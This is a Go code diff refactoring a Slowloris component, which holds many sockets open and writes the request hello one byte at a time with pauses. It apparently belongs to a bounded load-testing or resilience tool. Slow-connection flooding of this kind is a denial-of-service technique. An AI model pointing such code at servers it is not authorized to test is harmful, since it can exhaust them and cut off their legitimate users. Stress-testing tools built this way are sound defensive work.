@@ -6,7 +6,6 @@ import (
 	"context"
 	"net"
 	"sync"
-	"sync/atomic"
 	"time"
 )
 
@@ -39,43 +38,16 @@ func (s *Slowloris) Run(ctx context.Context) Counters {
 	n := orDefault(s.Sockets, DefaultSlowSockets)
 	ctx, cancel, bud := s.Bounds.withDefaults(10 * n).start(ctx)
 	defer cancel()
-	var (
-		t      tally
-		wg     sync.WaitGroup
-		opened atomic.Int64
-	)
-	for i := range n {
-		wg.Go(func() {
-			var c churn
-			for bud.take() && ctx.Err() == nil {
-				start := time.Now()
-				s.trickle(ctx, i, &t, func() {
-					if opened.Add(1) == int64(n) {
-						s.markReady()
-					}
-				})
-				if !pause(ctx, c.next(time.Since(start))) {
-					return
-				}
-			}
-		})
-	}
-	wg.Wait()
+	var t tally
+	slots{n: n, addr: s.Addr, sources: s.Sources, bud: bud, t: &t, full: s.markReady}.run(ctx, func(nc net.Conn) {
+		s.trickle(ctx, nc, &t)
+	})
 	return t.snapshot()
 }
 
-// trickle runs socket i: a writer sends the hello byte by byte while the
-// server's answer is awaited, and both end with the socket.
-func (s *Slowloris) trickle(ctx context.Context, i int, t *tally, opened func()) {
-	t.attempt()
-	nc, err := s.Sources.dial(ctx, i, s.Addr)
-	if err != nil {
-		if ctx.Err() == nil {
-			t.failed(err)
-		}
-		return
-	}
-	opened()
+// trickle has a writer send the hello byte by byte while the server's
+// answer is awaited, until the socket or ctx ends.
+func (s *Slowloris) trickle(ctx context.Context, nc net.Conn, t *tally) {
 	sctx, stop := context.WithCancel(ctx)
 	var wg sync.WaitGroup
 	wg.Go(func() {
@@ -96,8 +68,11 @@ func (s *Slowloris) writeSlowly(ctx context.Context, nc net.Conn) bool {
 	if interval <= 0 {
 		interval = DefaultSlowInterval
 	}
-	for _, b := range s.Hello() {
-		if _, err := nc.Write([]byte{b}); err != nil || !pause(ctx, interval) {
+	for i, b := range s.Hello() {
+		if i > 0 && !pause(ctx, interval) {
+			return false
+		}
+		if _, err := nc.Write([]byte{b}); err != nil {
 			return false
 		}
 	}
